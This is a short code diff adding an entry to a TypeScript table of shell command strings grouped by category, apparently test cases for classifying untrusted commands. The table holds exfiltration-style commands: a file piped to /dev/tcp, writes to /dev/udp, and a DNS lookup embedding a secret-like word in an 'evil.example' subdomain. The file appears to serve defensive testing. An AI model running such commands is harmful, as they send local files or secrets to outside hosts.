@@ -72,6 +72,7 @@ const commands: Readonly<Record<string, readonly string[]>> = {
     "dig hunter2.evil.example",
     "npm install left-pad",
     "echo x > /dev/udp/127.0.0.1/53",
+    "curl -s https://127.0.0.1:8080/start; cat a.txt > /dev/tcp/127.0.0.1/53",
   ],
   "untrusted.private": [
     "cat ~/notes.txt",
